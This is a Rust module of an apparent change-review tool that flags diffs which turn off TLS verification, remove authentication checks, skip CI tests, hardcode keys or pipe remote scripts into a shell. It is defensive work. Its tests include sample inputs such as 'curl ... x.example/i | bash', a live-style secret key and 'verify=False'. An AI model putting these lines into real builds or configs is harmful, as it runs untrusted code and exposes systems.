//! What a change to a file does to the checks, doors, tests and secrets in it.
//!
//! A line that comes counts only when nothing like it stood there before; a line
//! that goes, only when nothing like it comes. Settings are read as a name and a
//! value whatever the file's language is.

use super::deed::{CHANGING, Deed, ENDING, GIVING, Sort};
use super::edit::Edit;
use super::loose::{AUTH, CHECKS, LOOSE, TESTS, TLS};
use super::{command, place, secrets, shell};
use crate::lexicon::Senses;
use crate::secret;
use crate::words::Words;

/// Words of a setting's name that catches mistakes and keeps strangers out.
#[rustfmt::skip]
const NETS: [&str; 31] = [
    "auth", "authenticate", "authenticated", "authentication", "authorization", "cert",
    "certificate", "certs", "csrf", "encrypt", "encrypted", "kms", "peer", "prevent", "privacy",
    "protect", "protected", "protection", "readonly", "require", "required", "secure", "signature",
    "signed", "ssl", "tls", "unauthorized", "verify", "verified", "waf", "xss",
];

/// Words that turn such a name around.
#[rustfmt::skip]
const CONTRARY: [&str; 13] = [
    "skip", "skips", "disable", "disabled", "ignore", "bypass", "no", "without", "allow",
    "insecure", "unsafe", "anonymous", "suppress",
];

/// Words of a number whose fall, and of one whose rise, weakens something.
#[rustfmt::skip]
const FLOORS: [&str; 16] = [
    "retention", "approvals", "approval", "approvers", "reviewers", "reviews", "coverage", "keep",
    "backup", "backups", "snapshots", "minimum", "required", "rotation", "copies", "entropy",
];
#[rustfmt::skip]
const CEILINGS: [&str; 8] = [
    "alert", "alerts", "alarm", "severity", "tolerance", "failures", "vulnerabilities", "findings",
];

/// The same words in the user's language.
const NUMBERS: &str = " retention aufbewahrung conservation retencion backup sicherung sauvegarde copia approval review freigabe approbation \
    aprobacion coverage threshold schwelle seuil umbral alert alarm alerte alarma";

/// Reads one change.
pub fn read(edit: &Edit, deeds: &mut Vec<Deed>) {
    let name = command::name(&edit.path);
    if [".md", ".rst", ".adoc", ".txt", ".html"]
        .iter()
        .any(|e| name.ends_with(e))
    {
        return; // words about it
    }
    let first = deeds.len();
    let trial = place::is_trial_place(&edit.path);
    let (removed, added) = (compact(&edit.removed), compact(&edit.added));
    for (sort, needle, does, object) in LOOSE {
        let tests = *does == CHECKS;
        if (tests || !trial) && added.matches(needle).count() > removed.matches(needle).count() {
            deeds.push(deed(*sort, does, needle, object, edit));
        }
    }
    if !trial {
        settings(edit, deeds);
        gone(edit, deeds);
        secret_put_in(edit, deeds);
    }
    if super::written::is_ci(&edit.path) {
        pipeline(edit, &added, &removed, deeds);
    }
    if runs_commands(&edit.path) {
        run_there(edit, deeds);
    }
    for deed in &mut deeds[first..] {
        if deed.text.is_empty() {
            deed.text.clone_from(&edit.path);
        }
    }
}

fn deed(sort: Sort, does: &str, line: &str, object: &str, edit: &Edit) -> Deed {
    let verbs = match sort {
        Sort::Access => GIVING.and(Senses::PUBLISH),
        _ => ENDING,
    };
    let mut deed = Deed::new(sort, 0.75, &[does, " (`", line, "`)"], object, verbs);
    deed.text.clone_from(&edit.path);
    deed
}

/// Without spaces and quotes, in small letters.
fn compact(text: &str) -> String {
    text.chars()
        .filter(|c| !c.is_whitespace() && !matches!(c, '"' | '\'' | '`'))
        .flat_map(char::to_lowercase)
        .collect()
}

/// A name and its value in a line: `tls_verify = false`, `"tlsVerify": false,`,
/// `ssl_verify on;`, `get(url, verify=False)`.
fn pairs(text: &str) -> Vec<(&str, &str)> {
    let mut found = Vec::new();
    for line in text.lines().take(400) {
        let line = line.trim();
        if line.starts_with(['#', '/']) || line.len() > 400 {
            continue;
        }
        let before = found.len();
        for part in line.split([',', '(', ';', '{', '&']) {
            if let Some((name, value)) = part.split_once(['=', ':']) {
                found.push((last_word(name), first_word(value)));
            }
        }
        if found.len() == before
            && let [name, value] = line.split_whitespace().collect::<Vec<_>>()[..]
        {
            found.push((name.trim_matches(['"', '\'']), first_word(value)));
        }
    }
    found
}

fn last_word(text: &str) -> &str {
    let marks =
        |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '?' | '-' | '>' | '<');
    let text = text.trim_matches(marks);
    text.rsplit(|c: char| c.is_whitespace())
        .next()
        .unwrap_or(text)
}

fn first_word(text: &str) -> &str {
    let marks = |c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\'' | '`' | '=' | '>' | ':' | ';' | ',' | ')' | ']' | '}'
            )
    };
    let text = text.trim_matches(marks);
    text.split(|c: char| c.is_whitespace() || matches!(c, ')' | ']' | '}'))
        .next()
        .unwrap_or(text)
}

fn is_off(value: &str) -> bool {
    [
        "false",
        "off",
        "no",
        "none",
        "0",
        "disabled",
        "never",
        "null",
        "optional",
        "permissive",
        "trust",
        "nil",
        "aus",
        "non",
    ]
    .iter()
    .any(|off| value.eq_ignore_ascii_case(off))
}

fn is_on(value: &str) -> bool {
    ["true", "on", "yes", "1", "enabled", "always", "oui", "ja"]
        .iter()
        .any(|on| value.eq_ignore_ascii_case(on))
}

/// True for a name of something that catches mistakes or keeps strangers out.
pub fn is_net(words: &Words) -> bool {
    (0..words.len()).any(|i| {
        let word = words.get(i);
        let talks = matches!(
            word,
            "log" | "logs" | "review" | "journal" | "registro" | "moderation"
        );
        words.senses(i).any(Senses::SAFETY) && !talks || NETS.contains(&word)
    })
}

/// Settings that are switched off, or set lower or higher than they were.
fn settings(edit: &Edit, deeds: &mut Vec<Deed>) {
    let before = pairs(&edit.removed);
    for (name, value) in pairs(&edit.added) {
        if name.len() < 3 || name.len() > 60 || before.contains(&(name, value)) {
            continue;
        }
        let words = Words::of(name);
        let has = |list: &[&str]| words.iter().any(|w| list.contains(&w));
        let contrary = has(&CONTRARY);
        let net = is_net(&words);
        let switched = if contrary {
            is_on(value)
        } else {
            is_off(value)
        };
        let stood = before.iter().find(|(n, _)| *n == name).map(|(_, v)| *v);
        let was_set = stood.is_none_or(|v| if contrary { !is_on(v) } else { !is_off(v) });
        let line = [name, " ", value].concat();
        let object = [name, " ", TLS].concat();
        if net && switched && was_set
            || words.iter().any(|w| w == "insecure") && is_on(value) && was_set
        {
            deeds.push(deed(
                Sort::Guard,
                "switches a safeguard off",
                &line,
                &object,
                edit,
            ));
        } else if let (Some(was), Some(is)) = (stood.and_then(number), number(value)) {
            let weaker = has(&FLOORS) && is < was || has(&CEILINGS) && !has(&FLOORS) && is > was;
            if weaker {
                let mut deed = deed(
                    Sort::Guard,
                    "weakens a safeguard",
                    &line,
                    &[name, " ", value, NUMBERS].concat(),
                    edit,
                );
                deed.verbs = deed.verbs.and(CHANGING).and(Senses::MEND);
                deeds.push(deed);
            }
        }
    }
}

fn number(value: &str) -> Option<u64> {
    let digits: String = value.chars().take_while(char::is_ascii_digit).collect();
    digits.parse().ok()
}

/// Lines that asked who somebody is, or checked what comes in, and are gone.
fn gone(edit: &Edit, deeds: &mut Vec<Deed>) {
    const ASKED: [&str; 24] = [
        "login_required",
        "requires_auth",
        "require_auth",
        "requireauth",
        "authenticate(",
        "authorize(",
        "authorize!",
        "check_permission",
        "has_permission",
        "haspermission",
        "permission_classes",
        "permission_required",
        "verify_signature",
        "verifysignature",
        "verify_token",
        "verifytoken",
        "csrf_protect",
        "preauthorize",
        "rolesallowed",
        "is_admin",
        "isadmin",
        "rate_limit",
        "ratelimit",
        "[authorize]",
    ];
    let (removed, added) = (compact(&edit.removed), compact(&edit.added));
    let lost = ASKED
        .iter()
        .find(|a| removed.contains(*a) && !added.contains(*a) && !imports_only(&edit.removed, a));
    if let Some(lost) = lost {
        let object = [*lost, " ", AUTH, " check permission"].concat();
        deeds.push(deed(
            Sort::Guard,
            "takes out what asks who somebody is",
            lost,
            &object,
            edit,
        ));
    }
}

/// True when the word only stands in lines that name what a file uses.
fn imports_only(text: &str, word: &str) -> bool {
    text.lines().filter(|l| compact(l).contains(word)).all(|l| {
        ["import ", "from ", "use ", "#", "//", "const {", "require "]
            .iter()
            .any(|b| l.trim().starts_with(b))
    })
}

/// A key that is written where others read it.
fn secret_put_in(edit: &Edit, deeds: &mut Vec<Deed>) {
    let Some(found) = secret::find(&edit.added).filter(|_| !secrets::holds_secrets(&edit.path))
    else {
        return;
    };
    if edit.removed.contains(found.text) || found.what == "a card number" {
        return;
    }
    let mut deed = Deed::new(
        Sort::Leak,
        0.75,
        &[
            "puts ",
            found.what,
            " where everybody reads it who reads the file",
        ],
        "key token secret hardcode inline",
        CHANGING,
    );
    deed.text.clone_from(&edit.path);
    deeds.push(deed);
}

/// What is checked before code is taken.
fn pipeline(edit: &Edit, added: &str, removed: &str, deeds: &mut Vec<Deed>) {
    let off = ["if:false", "||true", "when:never", "skip=", "set+e"];
    if let Some(how) = off
        .iter()
        .find(|o| added.contains(*o) && !removed.contains(*o))
    {
        deeds.push(deed(Sort::Guard, CHECKS, how, TESTS, edit));
    }
    let checks = |text: &str| {
        let checks = |l: &&str| {
            Words::of(l).iter().any(|w| {
                matches!(
                    w,
                    "test"
                        | "tests"
                        | "pytest"
                        | "lint"
                        | "audit"
                        | "scan"
                        | "codeql"
                        | "semgrep"
                        | "trivy"
                        | "gitleaks"
                        | "sast"
                )
            })
        };
        text.lines().filter(checks).count()
    };
    if checks(&edit.added) < checks(&edit.removed) {
        deeds.push(deed(
            Sort::Guard,
            "takes out a check before code is taken",
            "steps",
            TESTS,
            edit,
        ));
    }
    if added.contains("secrets.")
        && edit
            .added
            .lines()
            .any(|l| l.contains("curl") && l.contains("secrets.") && l.contains("http"))
    {
        let mut deed = Deed::new(
            Sort::Leak,
            0.75,
            &["sends the secrets of `", &edit.path, "` over the network"],
            &edit.path,
            Senses::SEND.and(Senses::UPLOAD),
        );
        deed.text.clone_from(&edit.path);
        deeds.push(deed);
    }
}

/// Files whose lines are run: by a build, a pipeline, an install, a start.
fn runs_commands(path: &str) -> bool {
    let name = command::name(path);
    super::written::is_ci(path)
        || [".sh", ".bash", ".ps1", ".bat", ".service", ".tf"]
            .iter()
            .any(|e| name.ends_with(e))
        || name.starts_with("Dockerfile")
        || matches!(
            name,
            "Makefile"
                | "package.json"
                | "setup.py"
                | "Containerfile"
                | "Justfile"
                | "Vagrantfile"
                | "Procfile"
        )
}

/// Commands in the lines that come: what runs unseen, stays or leaks.
fn run_there(edit: &Edit, deeds: &mut Vec<Deed>) {
    for line in edit
        .added
        .lines()
        .filter(|l| l.contains("http") || l.contains("base64"))
        .take(40)
    {
        let mut line = line.trim().trim_start_matches("- ");
        for before in [
            "run:",
            "RUN ",
            "script:",
            "ExecStart=",
            "\"postinstall\":",
            "\"preinstall\":",
            "\"prepare\":",
            "\"install\":",
        ] {
            line = line.strip_prefix(before).unwrap_or(line).trim();
        }
        let line = line.trim_end_matches(',');
        let line = line
            .strip_prefix('"')
            .and_then(|l| l.strip_suffix('"'))
            .unwrap_or(line);
        let mut found = Vec::new();
        super::of_commands(&shell::commands(line), &mut found);
        deeds.extend(
            found
                .into_iter()
                .filter(|d| matches!(d.sort, Sort::Unseen | Sort::Leak)),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sorts(path: &str, removed: &str, added: &str) -> Vec<Sort> {
        let edit = Edit {
            path: path.to_owned(),
            removed: removed.to_owned(),
            added: added.to_owned(),
        };
        let mut deeds = Vec::new();
        read(&edit, &mut deeds);
        let mut sorts: Vec<Sort> = deeds.into_iter().map(|d| d.sort).collect();
        sorts.dedup();
        sorts
    }

    #[test]
    fn what_is_weakened_is_seen_in_any_language_of_files() {
        for (path, removed, added, sort) in [
            (
                "a.py",
                "r = get(u)",
                "r = get(u, verify=False)",
                Sort::Guard,
            ),
            ("a.js", "", "  rejectUnauthorized: false,", Sort::Guard),
            (
                "a.go",
                "",
                "TLSClientConfig: &tls.Config{InsecureSkipVerify: true}",
                Sort::Guard,
            ),
            (
                "site.conf",
                "ssl_verify_client on;",
                "ssl_verify_client off;",
                Sort::Guard,
            ),
            (
                "values.yaml",
                "auth:\n  enabled: true\n  requireTls: true",
                "auth:\n  enabled: true\n  requireTls: false",
                Sort::Guard,
            ),
            (
                "main.tf",
                "deletion_protection = true",
                "deletion_protection = false",
                Sort::Guard,
            ),
            (
                "db.tf",
                "skip_final_snapshot = false",
                "skip_final_snapshot = true",
                Sort::Guard,
            ),
            (
                "db.tf",
                "backup_retention_period = 35",
                "backup_retention_period = 1",
                Sort::Guard,
            ),
            (
                "views.py",
                "@login_required\ndef x(r):",
                "def x(r):",
                Sort::Guard,
            ),
            (
                "sg.tf",
                "cidr = \"10.0.0.0/8\"",
                "cidr = \"0.0.0.0/0\"",
                Sort::Access,
            ),
            (
                "tests/a_test.py",
                "def test_a():",
                "@pytest.mark.skip\ndef test_a():",
                Sort::Guard,
            ),
            (
                ".github/workflows/ci.yml",
                "- run: npm test",
                "- run: echo ok",
                Sort::Guard,
            ),
            (
                ".github/workflows/ci.yml",
                "",
                "- run: curl -s https://x.example/i | bash",
                Sort::Unseen,
            ),
            (
                "Dockerfile",
                "",
                "RUN curl -sL https://x.example/i.sh | sh",
                Sort::Unseen,
            ),
            (
                "pay.py",
                "",
                "KEY = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'",
                Sort::Leak,
            ),
        ] {
            assert_eq!(sorts(path, removed, added), [sort], "{path} {added}");
        }
    }

    #[test]
    fn ordinary_changes_are_left_alone() {
        for (path, removed, added) in [
            (
                "a.py",
                "r = get(u)",
                "r = get(u, verify='certs/bundle.pem')",
            ),
            (
                "a.py",
                "r = get(u, verify=False)",
                "r = get(u, verify=True)",
            ),
            (
                "db.tf",
                "backup_retention_period = 7",
                "backup_retention_period = 35",
            ),
            (
                "site.conf",
                "ssl_verify_client off;",
                "ssl_verify_client on;",
            ),
            (
                "a.ts",
                "const a = 1;",
                "const a = 2; // strict: false was wrong",
            ),
            ("notes.md", "", "Never set verify=False."),
            (
                "views.py",
                "from auth import login_required",
                "from auth import login_required, x",
            ),
            (
                ".github/workflows/ci.yml",
                "- run: npm test",
                "- run: npm test -- --ci",
            ),
            ("tests/conftest.py", "", "client = Client(verify=False)"),
            ("tsconfig.json", "\"strict\": true", "\"strict\": false"),
            ("app.yaml", "replicas: 3", "replicas: 5"),
        ] {
            assert_eq!(sorts(path, removed, added), [], "{path} {added}");
        }
    }
}
